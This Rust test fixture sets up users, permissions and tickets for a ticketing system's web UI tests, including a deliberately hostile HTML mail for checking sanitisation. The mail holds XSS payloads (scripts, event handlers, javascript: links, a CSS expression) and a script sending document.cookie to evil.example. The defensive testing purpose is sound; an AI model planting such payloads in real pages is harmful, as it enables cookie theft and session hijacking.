//! The site the web UI tests run against, shared by `tests/ui.rs` and
//! `tests/browser.rs`.

#![allow(clippy::unwrap_used, dead_code)]

use rt_core::db::Backend;
use rt_core::{AclObject, Config, Grantee, MimeEntity, NewTicket, NewUser, Role, TicketId};
use rt_test_support::TestDb;

/// The hostile HTML mail of ticket 2: a script, event handlers, a
/// `javascript:` link, a CSS expression and a remote (tracking) image
/// around harmless text.
pub const HOSTILE_HTML: &str = "<html><head><script>alert('head')</script>\
<style>body { background: url(javascript:alert(1)) }</style></head>\
<body onload=\"alert('load')\"><p style=\"width: expression(alert('css'))\">Quarterly numbers attached.</p>\
<script>document.location='http://evil.example/?c='+document.cookie</script>\
<a href=\"javascript:alert('link')\">click me</a> <a href=\"https://example.org/report\">the report</a>\
<img src=\"http://tracker.example/pixel.gif\" onerror=\"alert('img')\">\
<div onmouseover=\"alert('hover')\">Regards, Eve</div></body></html>";

/// What the tests know about the site.
pub struct Site {
    pub db: TestDb,
    /// Unowned, requestor guest, plain text.
    pub plain: TicketId,
    /// Unowned, hostile HTML mail with two attachments.
    pub hostile: TicketId,
}

/// Users: `staff` (privileged; sees, owns and modifies tickets in
/// General), `outsider` (privileged, no rights at all), `guest`
/// (unprivileged requestor of ticket `plain`, who may see tickets they
/// requested). Every password is `<name>pass`.
pub fn site(backend: Backend, config: Config) -> Site {
    let db = TestDb::with_config(backend, config);
    let (plain, hostile) = db
        .root()
        .write(|tx| {
            let general = tx.queue_by_name("General")?.queue_id();
            for (name, privileged) in [("staff", true), ("outsider", true), ("guest", false)] {
                tx.create_user(NewUser {
                    name: name.into(),
                    email: Some(format!("{name}@example.com")),
                    password: Some(format!("{name}pass")),
                    privileged,
                    ..NewUser::default()
                })?;
            }
            let staff = Grantee::User(tx.user_by_name("staff")?.user_id());
            for right in ["SeeQueue", "ShowTicket", "OwnTicket", "ModifyTicket", "ShowTicketComments", "CreateTicket"] {
                tx.grant(staff, right, AclObject::Queue(general))?;
            }
            tx.grant(Grantee::Role(Role::Requestor), "ShowTicket", AclObject::Queue(general))?;
            let plain = tx.create_ticket(NewTicket {
                queue: Some(general),
                subject: "Printer on fire".into(),
                requestors: vec!["guest@example.com".into()],
                content: Some(MimeEntity::text("It is burning.\nPlease hurry.\n")),
                ..NewTicket::default()
            })?;
            let html = MimeEntity {
                content_type: "text/html".into(),
                headers: "Content-Type: text/html; charset=\"utf-8\"\n".into(),
                body: HOSTILE_HTML.as_bytes().to_vec(),
                ..MimeEntity::default()
            };
            let hostile = tx.create_ticket(NewTicket {
                queue: Some(general),
                subject: "Quarterly report".into(),
                requestors: vec!["eve@example.net".into()],
                content: Some(MimeEntity::multipart(vec![
                    html,
                    MimeEntity::attachment("notes.txt", "text/plain", b"line one\nline two\n".to_vec()),
                    MimeEntity::attachment("evil.html", "text/html", b"<script>alert(1)</script>".to_vec()),
                ])),
                ..NewTicket::default()
            })?;
            Ok((plain, hostile))
        })
        .unwrap();
    Site { db, plain, hostile }
}
